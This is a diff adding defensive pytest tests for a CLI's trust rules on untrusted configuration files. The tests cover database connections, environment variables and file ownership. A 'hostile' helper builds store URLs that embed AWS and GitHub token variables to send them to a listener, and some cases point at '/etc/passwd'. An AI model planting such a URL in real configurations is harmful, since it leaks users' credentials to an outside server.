@@ -1,0 +1,496 @@
+"""A configuration from somebody else: it names no server and reads no variable until trusted."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import stat
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from ckpt_cli.ownership import fault_of
+from tests.security.standin import standin
+from tests.support import SAMPLE, Answer, ckpt
+
+SECRETS = {"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI", "GITHUB_TOKEN": "ghp_16C7e42F292c"}
+
+
+class Listener:
+    """A server that counts who connects, and hangs up."""
+
+    def __init__(self) -> None:
+        self.port = 0
+        self.connections = 0
+
+    def answer(self, client: socket.socket) -> None:
+        self.connections += 1
+        client.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    found = Listener()
+    with standin(found.answer) as found.port:
+        yield found
+
+
+@pytest.fixture
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A cloned repository, in which the test runs, with a store and secrets in the environment."""
+    repository = tmp_path / "repository"
+    repository.mkdir()
+    shutil.copyfile(SAMPLE, repository / "agent.db")
+    for name, value in SECRETS.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.chdir(repository)
+    return repository
+
+
+def write(folder: Path, text: str) -> Path:
+    path = folder / "ckpt.toml"
+    path.write_text(text)
+    return path
+
+
+def hostile(port: int, scheme: str = "postgresql") -> str:
+    return (
+        f'default = "evil"\n[stores.evil]\nretention = "1d"\n'
+        f'url = "{scheme}://x:${{AWS_SECRET_ACCESS_KEY}}@127.0.0.1:{port}/leak_${{GITHUB_TOKEN}}"\n'
+        f'[stores.plain]\nurl = "{scheme}://x@127.0.0.1:{port}/0"\n'
+        f'[stores.local]\nurl = "agent.db"\nmemory = "evil"\nthreads = "plain"\nretention = "1d"\n'
+    )
+
+
+def tells_no_secret(answer: Answer) -> bool:
+    return not any(value in answer.out + answer.err for value in SECRETS.values())
+
+
+REFUSED = [
+    ["threads", "list"],
+    ["-s", "evil", "threads", "list"],
+    ["-s", "plain", "threads", "list"],
+    ["-s", "plain", "stores"],
+    ["-s", "plain", "sessions", "list"],
+    ["-s", "plain", "memory", "list"],
+    ["-s", "plain", "import", "agent.db", "--yes"],
+    ["-s", "evil", "purge", "--expired", "--yes"],
+    ["-s", "local", "purge", "--expired", "--yes"],
+    ["-s", "local", "threads", "show", "trip-to-kyoto"],
+    ["-s", "./agent.db", "threads", "show", "trip-to-kyoto", "--memory", "plain"],
+]
+
+
+@pytest.mark.parametrize("words", REFUSED, ids=" ".join)
+def test_nobody_is_told_anything_by_a_file_that_is_not_trusted(
+    folder: Path, listener: Listener, words: list[str]
+) -> None:
+    path = write(folder, hostile(listener.port))
+    answer = ckpt(*words)
+    assert answer.code == 2
+    assert f"'{path}' is not trusted and " in answer.err
+    assert f"hint: read the file, then run `ckpt trust {path}`" in answer.err
+    assert tells_no_secret(answer)
+    assert listener.connections == 0
+
+
+@pytest.mark.parametrize("scheme", ["postgresql", "mysql", "mongodb", "redis", "rediss"])
+def test_stores_and_completions_connect_to_no_server_of_such_a_file(
+    folder: Path, listener: Listener, scheme: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    write(folder, hostile(listener.port, scheme))
+    (folder / "deep").mkdir()
+    for place in (folder, folder / "deep"):
+        monkeypatch.chdir(place)
+        answer = ckpt("stores", "-o", "json")
+        found = {one["name"]: one for one in answer.json}
+        for name, why in (("evil", "uses the environment variable"), ("plain", "names a server")):
+            assert why in found[name]["error"]
+            assert "not trusted" in found[name]["error"]
+        assert found["local"]["layout"] == "sqlite"
+        assert tells_no_secret(answer)
+        for kind in ("thread", "target", "ref", "ns", "channel"):
+            for store in ("", "evil", "plain"):
+                assert ckpt("_complete", kind, "", store, "", "", "").out == ""
+        offered = ckpt("_complete", "store", "", "", "", "", "").out.splitlines()
+        assert offered == [
+            "evil\tprofile, not trusted",
+            "plain\tprofile, not trusted",
+            "local\tprofile",
+        ]
+    monkeypatch.setenv("CKPT_STORE", "plain")
+    assert ckpt("threads", "list").code == 2
+    assert listener.connections == 0
+
+
+def test_a_trusted_file_may_do_what_it_showed_until_it_changes(
+    folder: Path, listener: Listener
+) -> None:
+    path = write(folder, hostile(listener.port))
+    shown = ckpt("trust", "-o", "json")
+    (evil, plain, local) = shown.json["profiles"]
+    assert evil["url"] == f"postgresql://x:***@127.0.0.1:{listener.port}/leak_${{GITHUB_TOKEN}}"
+    assert evil["variables"] == ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]
+    assert evil["settings"] == {"retention": "1d"}
+    assert local["settings"] == {"retention": "1d", "threads": "plain", "memory": "evil"}
+    assert (shown.json["path"], shown.json["default"], plain["variables"]) == (
+        *(str(path), "evil"),
+        [],
+    )
+    assert tells_no_secret(shown)
+    assert listener.connections == 0
+    answer = ckpt("threads", "list")
+    assert (answer.code, tells_no_secret(answer)) == (4, True)
+    assert listener.connections > 0
+    before = listener.connections
+    path.write_text(path.read_text() + "\n")
+    again = ckpt("threads", "list")
+    assert f"'{path}' changed since it was trusted and uses" in again.err
+    assert ckpt("trust", "--list", "-o", "json").json[0]["status"] == "changed since it was trusted"
+    assert listener.connections == before
+
+
+def test_what_trusts_by_itself(
+    folder: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    path = write(folder, hostile(listener.port))
+    assert ckpt("--config", path, "threads", "list").code == 4
+    assert listener.connections > 0
+    before = listener.connections
+    own = tmp_path / "config" / "ckpt" / "ckpt.toml"
+    own.parent.mkdir(parents=True)
+    path.rename(own)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    assert ckpt("threads", "list").code == 4
+    assert listener.connections > before
+    before = listener.connections
+    monkeypatch.chdir(own.parent)
+    assert ckpt("threads", "list").code == 4
+    assert listener.connections > before
+    # The specification of XDG ignores a relative path, which would name a folder of a stranger.
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("XDG_CONFIG_HOME", "config")
+    assert "no store given" in ckpt("threads", "list").err
+
+
+def test_trust_belongs_to_a_path_and_can_be_removed(
+    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = write(folder, '[stores.x]\nurl = "${NOWHERE}"\n')
+    assert ckpt("trust", "-q").code == 0
+    (entry,) = ckpt("trust", "--list", "-o", "json").json
+    assert (entry["path"], entry["status"]) == (str(path), "trusted")
+    copy = tmp_path / "ckpt.toml"
+    copy.write_bytes(path.read_bytes())
+    (folder / "deep").mkdir()
+    (folder / "deep" / "ckpt.toml").symlink_to(path)
+    for place in (tmp_path, folder / "deep"):
+        monkeypatch.chdir(place)
+        assert "is not trusted" in ckpt("-s", "x", "threads", "list").err
+    monkeypatch.chdir(folder)
+    assert "'NOWHERE' is not set" in ckpt("-s", "x", "threads", "list").err
+    assert ckpt("trust", "--remove").code == 0
+    assert "is not trusted" in ckpt("-s", "x", "threads", "list").err
+    assert ckpt("trust", "--remove").code == 3
+    assert ckpt("trust", "--list", "-o", "json").json == []
+
+
+def test_the_list_is_private_and_keeps_what_other_runs_add(folder: Path) -> None:
+    state = Path(os.environ["XDG_STATE_HOME"]) / "ckpt"
+    before = os.umask(0)
+    try:
+        for name in ("a", "b"):
+            (folder / name).mkdir(mode=0o755)
+            write(folder / name, "").chmod(0o644)
+            assert ckpt("trust", folder / name / "ckpt.toml").code == 0
+    finally:
+        os.umask(before)
+    assert len(ckpt("trust", "--list", "-o", "json").json) == 2
+    for place in (state, state / "trusted"):
+        assert stat.S_IMODE(place.stat().st_mode) == 0o700
+    for entry in (state / "trusted").iterdir():
+        assert stat.S_IMODE(entry.stat().st_mode) == 0o600
+    # An entry that another user could have written does not count.
+    (state / "trusted").chmod(0o777)
+    assert ckpt("trust", "--list", "-o", "json").json == []
+    refused = ckpt("trust", folder / "a" / "ckpt.toml")
+    assert (refused.code, "can be written by every user" in refused.err) == (2, True)
+
+
+@pytest.mark.parametrize(
+    ("lines", "why"),
+    [
+        ("url = '../other.db'", "names a file outside its folder"),
+        ("url = '/etc/passwd'", "names a file outside its folder"),
+        ("url = 'sqlite:////etc/passwd'", "names a file outside its folder"),
+        ("url = 'deerflow:////etc'", "names a file outside its folder"),
+        ("url = 'link.db'", "names a file outside its folder"),
+        ("url = 'links/other.db'", "names a file outside its folder"),
+        ("url = '${HOME}/agent.db'", "uses the environment variable 'HOME'"),
+        ("url = 'agent.db'\nlayout = '${HOME}'", "uses the environment variable 'HOME'"),
+        ("url = 'agent.db'\ncopy = true", "sets 'copy'"),
+        ("url = 'sqlite:///agent.db?copy=1'", "sets 'copy'"),
+        ("url = 'mysql://u@localhost/db'\nunix_socket = '/tmp/s'", "names a server"),
+        ("url = 'postgresql:///db?host=/tmp'", "names a server"),
+        ("url = 'somebodys+plugin://x'", "names a server"),
+    ],
+)
+def test_only_a_store_beside_the_file_needs_no_trust(
+    folder: Path, tmp_path: Path, lines: str, why: str
+) -> None:
+    (folder / "link.db").symlink_to(tmp_path / "other.db")
+    (folder / "links").symlink_to(tmp_path)
+    shutil.copyfile(SAMPLE, tmp_path / "other.db")
+    write(folder, f"[stores.x]\n{lines}\n")
+    for words in (["-s", "x", "threads", "list"], ["-s", "x", "stores"]):
+        answer = ckpt(*words)
+        assert answer.code == 2
+        assert f"is not trusted and {why}" in answer.err
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "url = 'agent.db'",
+        "url = './deep/../agent.db'",
+        "url = 'sqlite:///agent.db'",
+        "url = 'agent.db'\nlayout = 'sqlite'\nreducers = {notes = 'append'}",
+        "url = 'agent.db'\nmemory = 'y'\nretention = '1d'\n[stores.y]\nurl = 'agent.db'",
+    ],
+)
+def test_a_store_beside_the_file_needs_no_trust(folder: Path, lines: str) -> None:
+    (folder / "deep").mkdir()
+    write(folder, f"default = 'x'\n[stores.x]\n{lines}\n")
+    assert len(ckpt("threads", "list", "-o", "json").json) == 8
+
+
+@pytest.mark.parametrize("name", ["default", "memory", "threads"])
+def test_other_names_in_the_file_are_bound_by_the_same_rule(
+    folder: Path, listener: Listener, name: str
+) -> None:
+    url = f'"postgresql://127.0.0.1:{listener.port}/db"'
+    default = url if name == "default" else '"x"'
+    other = "" if name == "default" else f"{name} = {url}"
+    write(folder, f'default = {default}\n[stores.x]\nurl = "agent.db"\n{other}\n')
+    words = {
+        "default": ["threads", "list"],
+        "memory": ["threads", "show", "trip-to-kyoto"],
+        "threads": ["memory", "list", "--orphans"],
+    }
+    if name == "threads":
+        memory = {"version": "1.0", "facts": []}
+        (folder / "agent.db").unlink()
+        (folder / "memory.json").write_text(json.dumps(memory))
+        write(folder, f'default = "x"\n[stores.x]\nurl = "memory.json"\n{other}\n')
+    answer = ckpt(*words[name])
+    assert answer.code == 2
+    assert "is not trusted and names a server" in answer.err
+    assert listener.connections == 0
+
+
+def refused_as_not_ours(path: Path, why: str) -> None:
+    """A store that is named by its file, and `--config`, still work."""
+    folder = path.parent
+    for words in (["threads", "list"], ["-s", "x", "threads", "list"], ["trust"]):
+        answer = ckpt(*words)
+        assert answer.code == 2
+        assert f"cannot use '{path}': " in answer.err
+        assert why in answer.err
+        assert f"hint: `--config {path}` uses it anyway" in answer.err
+    for name in ("agent.db", "./agent.db", f"sqlite:///{folder}/agent.db"):
+        assert ckpt("-s", name, "replay", "--all").code == 0
+    assert ckpt("--config", path, "-s", "x", "threads", "list").code == 0
+    found = {one["name"]: one for one in ckpt("stores", "-o", "json").json}
+    assert found["agent.db"]["layout"] == "sqlite"
+    assert why in found[str(path)]["error"]
+    assert ckpt("_complete", "store", "", "", "", "", "").out == ""
+
+
+@pytest.mark.parametrize("name", ["ckpt.toml", "pyproject.toml"])
+def test_a_file_that_others_can_write_is_refused(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    table = "stores" if name == "ckpt.toml" else "tool.ckpt.stores"
+    path = folder / name
+    path.write_text(f"[{table}.x]\nurl = 'agent.db'\n")
+    assert ckpt("-s", "x", "threads", "list").code == 0
+    path.chmod(0o666)
+    refused_as_not_ours(path, "it can be written by every user")
+    path.chmod(0o644)
+    folder.chmod(0o777)
+    refused_as_not_ours(path, f"'{folder}' can be written by every user")
+    folder.chmod(0o1777)
+    assert ckpt("-s", "x", "threads", "list").code == 0
+    folder.chmod(0o755)
+    folder.parent.chmod(0o777)
+    refused_as_not_ours(path, f"'{folder.parent}' can be written by every user")
+    folder.parent.chmod(0o700)
+    # A file further up is not used in its stead, nor is one of the user.
+    (folder / "deep").mkdir()
+    own = Path(os.environ["XDG_CONFIG_HOME"]) / "ckpt" / "ckpt.toml"
+    own.parent.mkdir()
+    own.write_text(f"[stores.x]\nurl = '{folder}/agent.db'\n")
+    path.chmod(0o666)
+    monkeypatch.chdir(folder / "deep")
+    assert f"cannot use '{path}'" in ckpt("-s", "x", "threads", "list").err
+    path.unlink()
+    assert ckpt("-s", "x", "threads", "list").code == 0
+    own.parent.chmod(0o777)
+    assert f"cannot use '{own}'" in ckpt("-s", "x", "threads", "list").err
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
+@pytest.mark.parametrize("what", ["file", "folder", "link"])
+def test_a_file_of_another_user_is_refused(
+    folder: Path, what: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = write(folder, "[stores.x]\nurl = 'agent.db'\n")
+    given = {"file": path, "folder": folder, "link": path}[what]
+    if what == "link":
+        path.rename(folder / "real.toml")
+        path.symlink_to("real.toml")
+    os.chown(given, 65534, 65534, follow_symlinks=False)
+    refused_as_not_ours(path, "belongs to user 'nobody'")
+    monkeypatch.setenv("SUDO_UID", "65534")
+    assert ckpt("-s", "x", "threads", "list").code == 0
+
+
+def test_whose_files_are_refused(tmp_path: Path) -> None:
+    """The same check for any user who runs the tests."""
+    path = tmp_path / "folder" / "ckpt.toml"
+    path.parent.mkdir()
+    path.write_text("")
+    link = tmp_path / "link.toml"
+    link.symlink_to("folder/../folder/ckpt.toml")
+    me = os.geteuid()
+    mine = frozenset({0, me})
+    for place in (path, link):
+        assert fault_of(place, path.stat(), mine) is None
+        assert "belongs to user" in str(fault_of(place, path.stat(), frozenset({me + 4242})))
+        assert "was replaced" in str(fault_of(place, tmp_path.stat(), mine))
+    path.parent.chmod(0o777)
+    for place in (path, link):
+        fault = fault_of(place, path.stat(), mine)
+        assert fault == f"'{path.parent}' can be written by every user"
+    path.parent.chmod(0o755)
+    loop = tmp_path / "loop"
+    loop.symlink_to("loop")
+    with pytest.raises(OSError, match="symbolic links"):
+        fault_of(loop, path.stat(), mine)
+
+
+def test_a_group_may_write_only_if_it_is_the_owners_alone(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import grp
+    import pwd
+
+    path = tmp_path / "ckpt.toml"
+    path.write_text("")
+    path.chmod(0o664)
+    me, group = os.geteuid(), path.stat().st_gid
+    mine = frozenset({0, me})
+
+    def users(*ids: tuple[int, int]) -> list[pwd.struct_passwd]:
+        return [pwd.struct_passwd((f"u{u}", "", u, g, "", "", "")) for u, g in ids]
+
+    def fault(everybody: list[pwd.struct_passwd], members: list[str]) -> str | None:
+        monkeypatch.setattr(pwd, "getpwall", lambda: everybody)
+        monkeypatch.setattr(pwd, "getpwuid", lambda uid: users((uid, group))[0])
+        monkeypatch.setattr(grp, "getgrgid", lambda gid: grp.struct_group(("g", "", gid, members)))
+        return fault_of(path, path.stat(), mine)
+
+    shared = "it can be written by other users of its group"
+    other = me + 4242
+    assert fault(users((me, group)), []) is None
+    assert fault(users((me, group), (other, group + 1)), [f"u{me}"]) is None
+    assert fault(users((me, group), (other, group)), []) == shared
+    assert fault(users((me, group)), [f"u{other}"]) == shared
+    assert fault(users((me, group + 1)), []) == shared
+    monkeypatch.setattr(os, "listxattr", lambda _: ["system.posix_acl_access"], raising=False)
+    assert fault(users((me, group)), []) == shared
+
+
+@pytest.mark.parametrize(
+    ("text", "says"),
+    [
+        ("x = " + "[" * 100_000, "recursion"),
+        ("x = " + "9" * 10_000, "digits"),
+        ("#" * 1_000_001, "larger than"),
+        ("[stores.'a/b']\nurl = 'x'\n", "contains '/'"),
+        ("[stores.'']\nurl = 'x'\n", "is empty"),
+    ],
+    ids=["nested", "number", "large", "slash", "empty"],
+)
+def test_a_malformed_file_is_an_error_of_one_line(folder: Path, text: str, says: str) -> None:
+    write(folder, text)
+    for words in (["threads", "list"], ["trust"], ["stores"]):
+        answer = ckpt(*words)
+        assert answer.code == 2
+        assert says in answer.err
+    assert ckpt("-s", "agent.db", "threads", "list").code == 0
+
+
+def test_a_fifo_and_a_dangling_link_are_not_passed_over(folder: Path) -> None:
+    own = Path(os.environ["XDG_CONFIG_HOME"]) / "ckpt" / "ckpt.toml"
+    own.parent.mkdir()
+    own.write_text(f"default = 'x'\n[stores.x]\nurl = '{folder}/agent.db'\n")
+    os.mkfifo(folder / "ckpt.toml")
+    assert "it is a FIFO" in ckpt("threads", "list").err
+    (folder / "ckpt.toml").unlink()
+    (folder / "ckpt.toml").symlink_to("gone.toml")
+    assert "no such file" in ckpt("threads", "list").err
+    (folder / "ckpt.toml").unlink()
+    assert ckpt("threads", "list").code == 0
+
+
+def test_what_cannot_be_trusted(folder: Path) -> None:
+    assert "no configuration file" in ckpt("trust").err
+    (folder / "other.toml").write_text("")
+    (folder / "pyproject.toml").write_text("[tool.other]\n")
+    for name, says in (
+        ("other.toml", "only files named ckpt.toml and pyproject.toml"),
+        ("pyproject.toml", "no table [tool.ckpt]"),
+        ("deep/ckpt.toml", "no such file"),
+    ):
+        answer = ckpt("trust", name)
+        assert (answer.code, says in answer.err) == (2, True)
+    assert ckpt("trust", "--list", "--remove").code == 2
+    write(folder, "colour = 1\n")
+    assert ckpt("trust").code == 2
+    assert ckpt("trust", "--list", "-o", "json").json == []
+
+
+@pytest.mark.parametrize("section", ["checkpointer", "database"])
+def test_settings_of_deerflow_in_a_folder_name_no_server(
+    folder: Path, listener: Listener, section: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    url = f"postgresql://x@127.0.0.1:{listener.port}/db"
+    names = {"checkpointer": ("type", "connection_string"), "database": ("backend", "postgres_url")}
+    kind, place = names[section]
+    config = folder / "config.yaml"
+    (folder / ".deer-flow").mkdir()
+    fact = {"id": "f", "content": "a", "source": "thread", "createdAt": "2026-01-01T00:00:00Z"}
+    (folder / ".deer-flow" / "memory.json").write_text(
+        json.dumps({"version": "1.0", "facts": [fact]})
+    )
+    commands = (
+        ["memory", "show", "f"],
+        ["memory", "list", "--orphans"],
+        ["threads", "list"],
+        ["stores"],
+    )
+    settings = f"{section}:\n  {kind}: postgres\n  {place}: "
+    for text in (url, f"{url}\n  postgres_schema: $GITHUB_TOKEN", "$GITHUB_TOKEN", "$EVIL"):
+        config.write_text(f"{settings}{text}\n")
+        (folder / ".env").write_text(f"EVIL={url}\n")
+        for words in commands:
+            assert tells_no_secret(ckpt("-s", ".deer-flow", *words))
+    assert listener.connections == 0
+    config.write_text(f"{settings}$EVIL\n")
+    monkeypatch.setenv("DEER_FLOW_CONFIG_PATH", "config.yaml")
+    ckpt("-s", ".deer-flow", "memory", "show", "f")
+    assert listener.connections > 0
